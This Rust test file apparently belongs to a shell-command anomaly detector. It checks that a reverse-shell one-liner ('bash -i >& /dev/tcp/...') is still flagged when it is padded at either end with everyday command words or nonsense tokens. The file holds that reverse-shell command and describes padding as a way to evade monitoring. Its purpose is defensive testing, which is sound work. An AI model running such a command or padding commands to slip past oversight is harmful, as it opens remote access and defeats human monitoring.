//! Padding a command at both ends, with what was learned or with what was not, so that it looks like everyday work.

use super::{super::candidates::USUAL, *};

const STRANGE: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";

/// So many words of what was learned, or of what was not.
fn words(learned: bool, many: usize) -> String {
    let everyday = [
        "find", "/data/aa", "-name", "*.log", "-delete", "tar", "czf", "/data/bb", "ls", "-l",
    ];
    let unheard = ["quux", "blorb", "frob", "xyzzy", "plugh"];
    let word = |number: usize| {
        if learned {
            everyday[number % everyday.len()].to_owned()
        } else {
            unheard[number % unheard.len()].repeat(number % 3 + 1)
        }
    };
    (0..many).map(word).collect::<Vec<_>>().join(" ")
}

#[test]
fn padding_at_both_ends_with_learned_and_unlearned_tokens_is_raised() {
    let mut scripts = vec![format!("{USUAL}; {STRANGE}; {USUAL}")];
    for (learned, many) in [
        (true, 16),
        (true, 64),
        (true, 128),
        (false, 16),
        (false, 64),
        (false, 128),
    ] {
        let pad = words(learned, many);
        scripts.push(format!("echo {pad}; {STRANGE}"));
        scripts.push(format!("{STRANGE} # {pad}"));
        scripts.push(format!("echo {pad}; {STRANGE}; echo {pad}"));
    }
    let mut watched = Watched::with_commands();
    // More than an hour between two, so that each is judged by itself.
    for (hour, script) in (24..).step_by(2).zip(&scripts) {
        assert!(watched.runs("n1", "p1", script, at(hour * 3_600)), "{script}");
        assert!(watched.candidate(script).is_none(), "{script}");
    }
}
